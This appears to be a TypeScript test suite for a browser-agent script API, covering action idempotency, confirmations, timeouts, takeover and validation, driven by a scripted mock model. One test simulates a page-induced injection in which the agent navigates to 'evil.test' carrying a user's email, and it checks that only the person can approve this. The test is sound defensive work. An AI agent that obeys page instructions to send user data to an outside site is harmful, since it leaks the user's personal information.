// The script API (seed 002 §8): a task driven over plain requests, the script carrying out the
// agent's actions itself — start, next, report, confirm, cancel, status — with the seed's wire
// shapes and the socket's idempotency (a repeated or concurrent `next` gives the same action, a
// repeated `report` is recorded once).
import assert from "node:assert/strict";
import { describe, it } from "node:test";
import type { ExtensionList, ScriptAction, ScriptStatus, TaskList } from "../../protocol/ts/protocol.ts";
import { api, post, WebClient } from "../support/clients.ts";
import { ownRuntime } from "../support/mimo.ts";
import type { Mimo } from "../support/mimo.ts";
import { agentStep, onElement } from "../support/shopper.ts";

let mimo: Mimo;
// An extension would have a second to take an action and two to come back: a script has minutes.
ownRuntime({ bindings: { MIMO_AGENT_MAX_STEPS: "6", MIMO_ACTION_ACK_TIMEOUT_MS: "1000", MIMO_ACTION_OFFLINE_GRACE_MS: "2000" } }, (m) => (mimo = m));

type Next = { action: ScriptAction | null; status: string };

async function call<T>(route: string, body: unknown, status = 200): Promise<T> {
  const res = await post(mimo, route, body);
  const answer = (await res.json()) as T;
  assert.equal(res.status, status, `${route}: ${JSON.stringify(answer)}`);
  return answer;
}

async function status(taskId: string): Promise<ScriptStatus> {
  const res = await api(mimo, `/api/agent/status?taskId=${taskId}`);
  assert.equal(res.status, 200);
  return (await res.json()) as ScriptStatus;
}

/** What the script observes for each action: the page of a shop with a "Place order" button. */
function observe(action: ScriptAction): { extracted: unknown; errors?: Array<{ code: string; message: string }> } {
  switch (action.type) {
    case "task_start":
      return { extracted: { tabId: 5, windowId: 1, url: "http://shop.test/cart" } };
    case "wait_for_loaded":
      return { extracted: { status: "complete" } };
    case "screenshot":
      return { extracted: null, errors: [{ code: "CDP_UNAVAILABLE", message: "this script takes no screenshots" }] };
    case "readability_extract":
      return { extracted: { text: "Your cart: one blue mug.", title: "Cart", contentLengthBytes: 24, truncated: false } };
    case "dom_index":
      return {
        extracted: {
          elements: [{ clickId: 1, tag: "button", text: "Place order", frameId: 0 }],
          text: "[1]<button>Place order</button>",
          url: "http://shop.test/cart",
          title: "Cart",
          scrollX: 0,
          scrollY: 0,
        },
      };
    default:
      return { extracted: {} };
  }
}

const SEED_ACTION_KEYS = ["actionId", "params", "requiresConfirmation", "risk", "state", "taskId", "type"];

describe("the script API", () => {
  it("runs a task whose actions the script carries out, with a confirmation declined for a reason", async () => {
    mimo.llm.reset();
    mimo.llm.script([
      agentStep({ navigate: { url: "http://shop.test/cart" } }, "Opening the cart."),
      onElement("Place order", (index) => ({ click: { index } }), "In the cart."),
      agentStep({ done: { success: false, text: "You did not want the order placed." } }, "Declined."),
    ]);
    const started = await call<{ taskId: string; status: string }>("/api/agent/start", { goal: "Place my order at http://shop.test/cart" });
    const taskId = started.taskId;
    assert.equal(started.status, "RUNNING");

    let since: string | undefined;
    let asked: ScriptAction | undefined;
    const seen: string[] = [];
    for (let i = 0; i < 40 && asked === undefined; i++) {
      // Two at once, and once more: the same action each time, never a new one.
      const [a, b] = await Promise.all([
        call<Next>("/api/agent/next", { taskId, sinceActionId: since, waitMs: 5000 }),
        call<Next>("/api/agent/next", { taskId, sinceActionId: since, waitMs: 5000 }),
      ]);
      const again = await call<Next>("/api/agent/next", { taskId, sinceActionId: since });
      const action = a.action;
      assert.ok(action !== null, `an action or a confirmation after ${seen.join(", ")}: ${JSON.stringify(a)}`);
      assert.equal(b.action?.actionId, action.actionId, "concurrent next: the same action");
      assert.equal(again.action?.actionId, action.actionId, "repeated next: the same action");
      if (action.requiresConfirmation) {
        asked = action;
        break;
      }
      assert.deepEqual(Object.keys(action).filter((k) => k !== "target").sort(), SEED_ACTION_KEYS);
      assert.equal(action.taskId, taskId);
      assert.ok(["low", "medium", "high"].includes(action.risk));
      seen.push(action.type);
      // Reported twice (a lost answer): recorded once.
      const observation = { url: "http://shop.test/cart", title: "Cart", visibleTextSnippet: "Your cart", artifacts: {}, errors: [], ...observe(action) };
      for (let r = 0; r < 2; r++) {
        assert.deepEqual(await call("/api/agent/report", { taskId, actionId: action.actionId, observation }), { recorded: true });
      }
      since = action.actionId;
    }
    assert.ok(seen.includes("task_start") && seen.includes("dom_index"), seen.join(", "));
    const records = (await (await api(mimo, `/api/task/${taskId}/actions`)).json()) as Array<{ actionId: string; attempt: number }>;
    assert.equal(new Set(records.map((r) => r.actionId)).size, records.length, "no action minted twice");

    // The risky click waits: the status and next say so, with the step as an action to approve.
    assert.ok(asked !== undefined, "the click on Place order waits for confirmation");
    assert.deepEqual([asked.actionId, asked.type, asked.risk, asked.target], ["step-2", "click", "high", { by: "index", value: "1" }]);
    const waiting = await status(taskId);
    assert.equal(waiting.status, "WAITING_CONFIRMATION");
    assert.equal(waiting.pendingConfirmation?.actionId, "step-2");
    assert.ok(waiting.actions.every((a) => a.state === "done" || a.state === "failed"), JSON.stringify(waiting.actions.map((a) => [a.type, a.state])));

    const before = mimo.llm.requests().length;
    assert.deepEqual(await call("/api/agent/confirm", { taskId, actionId: asked.actionId, approved: false, reason: "not today" }), { ok: true });
    // Answered already: refused, nothing changes.
    const twice = await post(mimo, "/api/agent/confirm", { taskId, actionId: asked.actionId, approved: true });
    assert.equal(twice.status, 404);
    for (let i = 0; i < 50 && (await status(taskId)).status === "RUNNING"; i++) await new Promise((r) => setTimeout(r, 100));
    const ended = await status(taskId);
    assert.equal(ended.status, "SUCCEEDED", JSON.stringify(ended));
    const told = JSON.stringify(mimo.llm.requests().slice(before)[0]!.body);
    assert.match(told, /not today/, "the model heard why");
    const audit = (await (await api(mimo, `/api/task/${taskId}/audit.jsonl`)).text()).trim().split("\n").map((l) => JSON.parse(l) as { confirmation?: { by?: string } });
    assert.equal(audit.find((r) => r.confirmation)?.confirmation?.by, "api");
  });

  it("cannot approve what only the person may: data sent to a site they did not name", async () => {
    mimo.llm.reset();
    mimo.llm.script([
      agentStep({ navigate: { url: "http://shop.test/cart" } }, "Opening the cart."),
      agentStep({ navigate: { url: "https://evil.test/c?e=ann@mail.test" } }, "The page asked me to."),
      agentStep({ done: { success: false, text: "Not sent." } }, "Declined."),
    ]);
    const { taskId } = await call<{ taskId: string }>("/api/agent/start", { goal: "Check my cart at http://shop.test/cart" });
    let since: string | undefined;
    let asked: ScriptAction | undefined;
    for (let i = 0; i < 40 && asked === undefined; i++) {
      const { action } = await call<Next>("/api/agent/next", { taskId, sinceActionId: since, waitMs: 5000 });
      assert.ok(action !== null);
      if (action.requiresConfirmation) asked = action;
      else {
        const observation = { url: "http://shop.test/cart", title: "Cart", visibleTextSnippet: "Your cart", artifacts: {}, errors: [], ...observe(action) };
        await call("/api/agent/report", { taskId, actionId: action.actionId, observation });
        since = action.actionId;
      }
    }
    assert.ok(asked !== undefined && asked.type === "navigate", JSON.stringify(asked));
    const approved = await post(mimo, "/api/agent/confirm", { taskId, actionId: asked.actionId, approved: true });
    assert.equal(approved.status, 403);
    const body = (await approved.json()) as { code: string; message: string };
    assert.equal(body.code, "PERMISSION_DENIED");
    assert.match(body.message, /evil\.test/);
    assert.equal((await status(taskId)).status, "WAITING_CONFIRMATION", "still the person's to answer");
    assert.deepEqual(await call("/api/agent/confirm", { taskId, actionId: asked.actionId, approved: false }), { ok: true }, "a script may decline it");
    // The model hears the decline and ends the task (before the next test scripts the model).
    for (let i = 0; i < 100 && ["RUNNING", "WAITING_CONFIRMATION"].includes((await status(taskId)).status); i++) await new Promise((r) => setTimeout(r, 100));
    assert.equal((await status(taskId)).status, "SUCCEEDED", "the task ended (its answer says nothing was sent)");
  });

  it("answers start at once, while the model is still on the goal", async () => {
    mimo.llm.reset();
    // The model takes its time over the goal: start does not wait for it.
    mimo.llm.script([{ ...agentStep({ navigate: { url: "http://shop.test/" } }, "Opening."), stallMs: 10_000 }]);
    const started = await call<{ taskId: string; status: string; nextAction: ScriptAction | null }>("/api/agent/start", { goal: "Read http://shop.test/" });
    assert.equal(started.status, "RUNNING");
    assert.equal(started.nextAction, null, "no action is ready yet");
    assert.ok(
      mimo.llm.requests().every((r) => r.answeredAt === undefined),
      "no model answer came before the task id",
    );
    // The model is asked all the same, by the task's alarm.
    for (let i = 0; i < 100 && mimo.llm.requests().length === 0; i++) await new Promise((r) => setTimeout(r, 50));
    assert.equal(mimo.llm.requests().length, 1, "the goal went to the model");
    assert.match(JSON.stringify(mimo.llm.requests()[0]!.body), /Read http:\/\/shop.test\//);
    assert.deepEqual(await call("/api/agent/cancel", { taskId: started.taskId }), { ok: true });
  });

  it("answers start with the first action when it comes within the wait asked for", async () => {
    mimo.llm.reset();
    mimo.llm.script([agentStep({ navigate: { url: "http://shop.test/" } }, "Opening.")]);
    const started = await call<{ taskId: string; status: string; nextAction: ScriptAction | null }>("/api/agent/start", { goal: "Read http://shop.test/", waitMs: 10_000 });
    const first = started.nextAction;
    assert.ok(first !== null, JSON.stringify(started));
    assert.deepEqual([first.taskId, first.type, first.state], [started.taskId, "task_start", "running"]);
    assert.equal(first.params.url, "http://shop.test/");
    // It is the action `next` hands out too, and reporting it moves the task on.
    const next = await call<Next>("/api/agent/next", { taskId: started.taskId });
    assert.equal(next.action?.actionId, first.actionId);
    assert.deepEqual(await call("/api/agent/report", { taskId: started.taskId, actionId: first.actionId, observation: { ...observe(first), errors: [] } }), { recorded: true });
    const after = await call<Next>("/api/agent/next", { taskId: started.taskId, sinceActionId: first.actionId, waitMs: 5000 });
    assert.notEqual(after.action?.actionId, first.actionId);
    assert.deepEqual(await call("/api/agent/cancel", { taskId: started.taskId }), { ok: true });
  });

  it("gives a script its own bounds: an action waits for it while it is busy elsewhere", async () => {
    mimo.llm.reset();
    mimo.llm.script([agentStep({ navigate: { url: "http://shop.test/" } }, "Opening.")]);
    const { taskId } = await call<{ taskId: string }>("/api/agent/start", { goal: "Read http://shop.test/" });
    // The script waits on a person (or polls status) longer than an extension may take.
    for (let i = 0; i < 8; i++) {
      await new Promise((r) => setTimeout(r, 500));
      assert.equal((await status(taskId)).status, "RUNNING");
    }
    const { action } = await call<Next>("/api/agent/next", { taskId, waitMs: 5000 });
    assert.equal(action?.type, "task_start", "still there for the script, not timed out");
    const records = (await (await api(mimo, `/api/task/${taskId}/actions`)).json()) as Array<{ state: string; attempt: number }>;
    assert.deepEqual(records.map((r) => [r.state, r.attempt]), [["acked", 1]]);
    assert.deepEqual(await call("/api/agent/report", { taskId, actionId: action.actionId, observation: { ...observe(action), errors: [] } }), { recorded: true });
    const after = await call<Next>("/api/agent/next", { taskId, sinceActionId: action.actionId, waitMs: 5000 });
    assert.ok(after.action !== null && after.action.actionId !== action.actionId, JSON.stringify(after));
    assert.deepEqual(await call("/api/agent/cancel", { taskId }), { ok: true });
  });

  it("gives a task the bounds its script asks for, and refuses bounds out of range before any task exists", async () => {
    const tasks = async () => ((await (await api(mimo, "/api/tasks?limit=100")).json()) as TaskList).tasks.length;
    const tasksBefore = await tasks();
    for (const [field, value, named] of [
      ["takeTimeoutMs", 999, /takeTimeoutMs is 999: it must be from 1000 to 3600000 ms/],
      ["reportTimeoutMs", 3_600_001, /reportTimeoutMs is 3600001/],
      ["takeTimeoutMs", "soon", /invalid type: string "soon", expected u64/],
      ["reportTimeoutMs", -5, /invalid value: integer `-5`, expected u64/],
    ] as const) {
      const res = await post(mimo, "/api/agent/start", { goal: "Read http://shop.test/", [field]: value });
      const body = (await res.json()) as { code: string; message: string };
      assert.equal(res.status, 400, JSON.stringify(body));
      assert.equal(body.code, "SCHEMA_VALIDATION_FAILED");
      assert.match(body.message, named);
    }
    assert.equal(await tasks(), tasksBefore, "no task was made");

    mimo.llm.reset();
    mimo.llm.script([agentStep({ navigate: { url: "http://shop.test/" } }, "Opening.")]);
    // The deployment gives a script 10 minutes to report; this one asks for 1.5 s.
    const { taskId } = await call<{ taskId: string }>("/api/agent/start", { goal: "Read http://shop.test/", reportTimeoutMs: 1_500 });
    const { action } = await call<Next>("/api/agent/next", { taskId, waitMs: 5000 });
    assert.equal(action?.type, "task_start");
    await new Promise((r) => setTimeout(r, 3_000));
    const records = (await (await api(mimo, `/api/task/${taskId}/actions`)).json()) as Array<{ actionId: string; state: string; outcome?: { error?: { code: string } } }>;
    const first = records.find((r) => r.actionId === action.actionId);
    assert.ok(first !== undefined && first.state !== "acked", `not reported within the task's 1.5 s, it ended or was retried: ${JSON.stringify(records)}`);
    assert.deepEqual(await call("/api/agent/cancel", { taskId }), { ok: true });
  });

  it("keeps a script present by any of its calls, not only next and report", { timeout: 60_000 }, async () => {
    mimo.llm.reset();
    // The model takes long over the goal: the script has nothing to take meanwhile.
    mimo.llm.script([{ ...agentStep({ navigate: { url: "http://shop.test/" } }, "Opening."), stallMs: 45_000 }]);
    const { taskId } = await call<{ taskId: string }>("/api/agent/start", { goal: "Read http://shop.test/" });
    const online = async () => {
      const list = (await (await api(mimo, "/api/extension/extension-list")).json()) as ExtensionList;
      return list.extensions.find((e) => e.clientId === `script-${taskId}`)?.online;
    };
    assert.equal(await online(), true);
    // Past the presence window (30 s) without a call, a script is away…
    await new Promise((r) => setTimeout(r, 31_000));
    assert.equal(await online(), false);
    // …and polling `status` (waiting on a person, say) is a call like next's.
    await status(taskId);
    assert.equal(await online(), true, "status counts as the script's presence");
    assert.deepEqual(await call("/api/agent/cancel", { taskId }), { ok: true });
  });

  it("says WAITING_PAGE while the page is awaited, and TAKEOVER while the person has the browser", async () => {
    mimo.llm.reset();
    mimo.llm.script([agentStep({ navigate: { url: "http://shop.test/" } }, "Opening.")]);
    const started = await call<{ taskId: string; nextAction: ScriptAction | null }>("/api/agent/start", { goal: "Read http://shop.test/", waitMs: 10_000 });
    const { taskId } = started;
    const report = async (action: ScriptAction) =>
      assert.deepEqual(await call("/api/agent/report", { taskId, actionId: action.actionId, observation: { ...observe(action), errors: [] } }), { recorded: true });
    assert.equal(started.nextAction?.type, "task_start");
    await report(started.nextAction);
    const loading = (await call<Next>("/api/agent/next", { taskId, sinceActionId: started.nextAction.actionId, waitMs: 5000 })).action;
    assert.equal(loading?.type, "wait_for_loaded");
    assert.equal((await status(taskId)).status, "WAITING_PAGE", "the page is awaited");

    // The person takes the browser over in the web app: nothing new is handed to the script.
    const web = await WebClient.connect(mimo, taskId);
    web.send({ type: "take_over" });
    await web.waitFor((e) => e.type === "taskStatus" && e.status === "takeover", "the takeover");
    assert.equal((await status(taskId)).status, "TAKEOVER");
    await report(loading);
    const held = await call<Next>("/api/agent/next", { taskId, sinceActionId: loading.actionId, waitMs: 1000 });
    assert.deepEqual(held, { action: null, status: "TAKEOVER" });
    // Handed back, the task goes on: the next action comes.
    web.send({ type: "resume" });
    const resumed = await call<Next>("/api/agent/next", { taskId, sinceActionId: loading.actionId, waitMs: 5000 });
    assert.ok(resumed.action !== null && resumed.action.actionId !== loading.actionId, JSON.stringify(resumed));
    assert.equal(resumed.status, "RUNNING");
    await web.close();
    assert.deepEqual(await call("/api/agent/cancel", { taskId }), { ok: true });
  });

  it("refuses bad input with clear codes and cancels a task", async () => {
    const empty = await post(mimo, "/api/agent/start", { goal: "  " });
    assert.equal(empty.status, 400);
    assert.equal(((await empty.json()) as { code: string }).code, "SCHEMA_VALIDATION_FAILED");
    const unknownField = await post(mimo, "/api/agent/start", { goal: "x", model: "gpt" });
    assert.equal(((await unknownField.json()) as { code: string }).code, "SCHEMA_VALIDATION_FAILED");
    const badId = await post(mimo, "/api/agent/next", { taskId: "nope" });
    assert.equal(((await badId.json()) as { code: string }).code, "SCHEMA_VALIDATION_FAILED");

    // The task waits for the script to open its page when it is canceled.
    mimo.llm.reset();
    mimo.llm.script([agentStep({ navigate: { url: "http://shop.test/" } }, "Opening.")]);
    const { taskId } = await call<{ taskId: string }>("/api/agent/start", { goal: "Read http://shop.test/" });
    const badReport = await post(mimo, "/api/agent/report", { taskId, actionId: "act_none", observation: { errors: [] } });
    assert.equal(((await badReport.json()) as { code: string }).code, "NOT_FOUND");
    const badConfirm = await post(mimo, "/api/agent/confirm", { taskId, actionId: "act_x", approved: true });
    assert.equal(((await badConfirm.json()) as { code: string }).code, "NOT_FOUND");
    assert.equal((await status(taskId)).status, "RUNNING");
    assert.deepEqual(await call("/api/agent/cancel", { taskId }), { ok: true });
    const canceled = await status(taskId);
    assert.equal(canceled.status, "CANCELED");
    assert.ok(canceled.actions.every((a) => a.state !== "running" && a.state !== "pending"), JSON.stringify(canceled.actions));
    // Nothing is handed out any more.
    assert.deepEqual(await call("/api/agent/next", { taskId }), { action: null, status: "CANCELED" });
  });
});
